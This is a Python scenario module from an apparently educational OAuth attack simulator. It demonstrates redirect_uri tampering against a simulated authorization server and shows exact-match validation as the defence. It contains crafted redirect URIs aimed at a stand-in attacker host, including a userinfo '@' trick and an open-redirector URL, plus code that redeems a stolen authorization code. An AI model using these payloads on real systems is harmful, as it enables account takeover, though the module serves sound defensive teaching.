"""redirect-uri-tampering: the attacker sends the victim an authorization link whose
redirect_uri points elsewhere, hoping the code lands on the attacker's server. Exact
redirect URI matching, with an error page (never a redirect) for an unregistered URI, stops
it (RFC 9700 §4.1, RFC 6749 §4.1.2.1).

The attacker first probes the authorization server with their own browser: one crafted
redirect_uri per pattern (extra path, other port, other host, an open-redirector URL on the
client's site, and `http://<client host:port>@<attacker host:port>/steal`, whose authority is
really the attacker's). An accepted URI answers with the login redirect, a refused one with
the 400 error page. The link is built for the public SPA client, with the attacker's own PKCE
challenge: PKCE cannot help when the attacker starts the flow. With exact matching every
probe is refused and so is the victim's link. With prefix matching (the registered URI's
origin as a prefix, switched on for this run), the `@` link passes: alice logs in, approves,
and her browser takes the code to the attacker, who redeems it and reads her profile.
"""

from __future__ import annotations

import secrets
from urllib.parse import quote, urlsplit

from sim import defences
from sim.attacker import Attacker
from sim.parties import AUTHORIZATION_SERVER, USER_AGENT
from sim.scenarios.attack_common import (
    SPA,
    AttackScenario,
    Mark,
    error_of,
    pkce_pair,
    spa_authorization_url,
    spa_redirect_uri,
)
from sim.scenarios.base import log_in_and_consent


def crafted_redirect_uris(sim) -> dict[str, str]:
    """The attacker's candidate redirect URIs, by the pattern each one tries."""
    registered = spa_redirect_uri(sim)
    client, attacker = (urlsplit(u).netloc for u in (sim.client_url, sim.attacker_url))
    return {
        "extra path": registered + "/../../steal",
        "other port": f"http://{attacker}{SPA.redirect_path}",
        "other host": f"http://attacker.example{SPA.redirect_path}",
        "open redirector": f"{sim.client_url}/redirect?to={quote(sim.attacker_url + '/steal')}",
        "prefix + userinfo": f"http://{client}@{attacker}/steal",
    }


def _authority(url: str) -> str:
    """host:port a browser would connect to (userinfo before `@` is not part of it)."""
    parts = urlsplit(url)
    return f"{parts.hostname}:{parts.port}"


class RedirectUriTampering(AttackScenario):
    name = "redirect-uri-tampering"
    description = "A crafted link with a redirect_uri of the attacker's (exact matching)"
    defence = defences.EXACT_REDIRECT_URI
    defence_text = (
        "The authorization server accepts only a redirect_uri exactly equal to a registered "
        "one, and answers any other with an error page, never a redirect."
    )
    rfc = "RFC 9700 §4.1, RFC 6749 §4.1.2.1"

    def attack(self, sim, flow: str, insecure: bool, attacker: Attacker):
        verifier, challenge = pkce_pair()  # the attacker's own
        state = secrets.token_urlsafe(16)
        attacker_host = urlsplit(sim.attacker_url).netloc

        def link(redirect_uri: str) -> str:
            return spa_authorization_url(sim, state, challenge, redirect_uri=redirect_uri)

        probes = {}
        usable = None
        for pattern, uri in crafted_redirect_uris(sim).items():
            answer = attacker.browser.get(link(uri))
            probes[pattern] = answer.status_code
            lands_on_attacker = _authority(uri) == attacker_host
            if answer.is_redirect and lands_on_attacker and usable is None:
                usable = uri
        # The attacker sends alice the link they hope works (the last pattern if none did).
        chosen = usable or crafted_redirect_uris(sim)["prefix + userinfo"]
        victim = sim.user_agent(flow)
        first = victim.open(attacker.lure(link(chosen)))
        if first.status_code == 200:  # accepted: the login page, then consent
            log_in_and_consent(victim, first)
        victim_authorize = next(r for r in victim.hops if urlsplit(r.url).path == "/authorize")
        leaked = attacker.loot("leak")
        code = leaked[-1]["params"].get("code", "") if leaked else ""
        token_status = api_user = None
        if code:
            redeemed = attacker.http.post(
                sim.authorization_server_url + "/token",
                data={
                    "grant_type": "authorization_code",
                    "code": code,
                    "redirect_uri": chosen,
                    "client_id": SPA.client_id,
                    "code_verifier": verifier,
                },
                timeout=10,
            )
            token_status = redeemed.status_code
            if redeemed.ok:
                profile = attacker.http.get(
                    sim.resource_server_url + "/api/profile",
                    headers={"Authorization": f"Bearer {redeemed.json()['access_token']}"},
                    timeout=10,
                )
                api_user = profile.json().get("username") if profile.ok else None
            elif error_of(redeemed):
                token_status = f"{redeemed.status_code} {error_of(redeemed)}"
        evidence = {
            "probes": probes,
            "victim_link_redirect_uri": chosen,
            "victim_authorize_status": victim_authorize.status_code,
            "victim_authorize_redirected": victim_authorize.is_redirect,
            "victim_redirected_to_attacker": any(
                _authority(r.url) == attacker_host and urlsplit(r.url).path == "/steal"
                for r in victim.hops
            ),
            "code_reached_attacker": bool(code),
            "attacker_token_status": token_status,
            "attacker_read_profile_of": api_user,
        }
        mark = Mark(
            USER_AGENT,
            AUTHORIZATION_SERVER,
            "GET",
            "/authorize",
            self.marker(
                insecure,
                "exact redirect URI matching: not a registered redirect_uri; error page, "
                "no redirect",
                "exact redirect URI matching: prefix matching accepted a redirect_uri whose "
                "host is the attacker's",
            ),
        )
        return evidence, bool(code), [mark]


SCENARIOS = [RedirectUriTampering()]
